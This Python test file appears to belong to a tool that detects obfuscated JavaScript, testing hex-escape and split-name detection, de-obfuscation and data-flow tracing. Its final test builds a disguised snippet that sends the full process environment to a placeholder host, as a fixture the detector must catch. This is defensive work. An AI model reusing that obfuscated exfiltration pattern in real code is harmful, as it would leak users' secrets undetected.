from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.javascript.disguise import calls, is_disguised, undisguised
from assay.javascript.read import read
from assay.model.source import BehaviourKind


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (f"a['{escaped('request')}'](1)", True),
        ("a['re' + 'quest'](1)", True),
        ("a['request'](1)", False),
        ("const bell = '\\x07\\x1b[0m'; const e = '\\u00e9\\u00e8'", False),
    ],
)
def test_needless_escapes_and_split_names_are_disguise(code: str, expected: bool) -> None:
    assert is_disguised(code.encode()) is expected


def test_words_are_spelled_out() -> None:
    assert undisguised(f"a['{escaped('req')}' + 'uest'](\"\\u0068\\u{{69}}\")".encode()) == b'a.request("hi")'


def test_calls_are_found_by_their_brackets() -> None:
    code = b"a(1); b['c'](2); d(3)(4); (5)"
    assert [code[place : place + 2] for place in calls(code)] == [b"(1", b"(2", b"(3", b"(4"]


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=3, max_size=20))
def test_any_escaped_word_is_read(word: str) -> None:
    assert undisguised(escaped(word).encode()) == word.encode()


def test_disguised_theft_is_followed() -> None:
    code = (
        f"const h = require('{escaped('ht')}' + '{escaped('tps')}');"
        f"h['{escaped('get')}']('{escaped('https://a.invalid/')}' + String(process['en' + 'v']))"
    )
    (flow,) = read("a.js", code.encode()).flows
    assert (flow.source.kind, flow.sink.detail) == (BehaviourKind.ENVIRONMENT_DUMP, "https.get to https://a.invalid/")
